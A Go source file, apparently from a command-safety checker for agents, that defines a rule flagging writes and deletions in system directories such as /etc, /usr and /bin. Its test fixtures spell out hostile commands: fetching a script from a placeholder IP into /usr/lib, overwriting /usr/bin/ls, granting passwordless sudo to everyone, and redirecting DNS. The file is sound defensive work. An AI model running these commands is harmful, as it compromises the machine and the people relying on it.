package commands

import "strings"

// systemWriteRules judge writes and deletions of single files in the
// system's own directories (/etc, /usr outside /usr/local, /bin, /sbin,
// /lib, /boot): an agent working on a project has no reason to replace,
// plant or remove files there, and doing so changes how the whole machine
// runs (configuration, programs, libraries, the boot).
var systemWriteRules = []*rule{
	{
		ID: "system-file-write", Class: "destructive filesystem", Sev: high,
		Msg: "writes, replaces or deletes a file in a system directory",
		Must: []string{
			"wget -O /usr/lib/x/helper.py http://192.0.2.70/h.py",
			"cp payload /usr/bin/ls",
			"echo 'ALL ALL=(ALL) NOPASSWD:ALL' > /etc/sudoers.d/x",
			"rm /etc/security/limits.conf",
			"printf 'nameserver 192.0.2.71\\n' > /etc/resolv.conf",
		},
		MustNot: []string{
			"cp build/app /usr/local/bin/app",
			"cat /etc/os-release",
			"cp /etc/nginx/nginx.conf ./nginx.conf.bak",
			"rm -f /tmp/build.log",
			"echo hi > /dev/null",
		},
		check: checkSystemWrite,
	},
}

func init() { rules = append(rules, systemWriteRules...) }

// systemFile reports a path inside a system directory that is not one of
// the places software is installed by hand (/usr/local, /opt) or a device.
func systemFile(p string) bool {
	n := normPath(p)
	for _, pre := range []string{"/usr/local/", "/usr/src/", "/usr/share/doc/", "/etc/apt/", "/usr/share/keyrings/", "/etc/yum.repos.d/",
		"/etc/zypp/repos.d/", "/etc/pki/rpm-gpg/", "/etc/bash_completion.d/", "/usr/share/bash-completion/", "/usr/share/zsh/"} {
		// Hand-installed software, and package sources with their keys
		// (install guides add them; the package manager checks them).
		if strings.HasPrefix(n, pre) {
			return false
		}
	}
	for _, pre := range []string{"/etc/", "/usr/", "/bin/", "/sbin/", "/lib/", "/lib32/", "/lib64/", "/boot/"} {
		if strings.HasPrefix(n, pre) && len(n) > len(pre) {
			return true
		}
	}
	return false
}

func checkSystemWrite(c *call, _ *config) *hit {
	if c.name == "rm" || c.name == "unlink" || c.name == "shred" {
		for _, op := range operands(c, "") {
			if systemFile(op) {
				return c.rule()
			}
		}
		return nil
	}
	for _, w := range writes(c) {
		if systemFile(w) {
			return c.rule()
		}
	}
	return nil
}
